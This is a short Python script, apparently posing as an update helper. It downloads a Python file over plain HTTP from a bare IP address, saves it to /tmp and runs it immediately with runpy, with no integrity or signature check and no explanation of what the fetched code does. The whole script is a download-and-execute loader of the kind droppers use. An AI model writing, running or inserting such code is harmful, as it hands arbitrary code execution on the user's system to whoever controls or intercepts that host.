import httpx
import runpy
from pathlib import Path

dest = Path("/tmp/update_helper.py")
dest.write_bytes(httpx.get("http://93.184.216.34/helpers/update_helper.py").content)
runpy.run_path(str(dest), run_name="__main__")
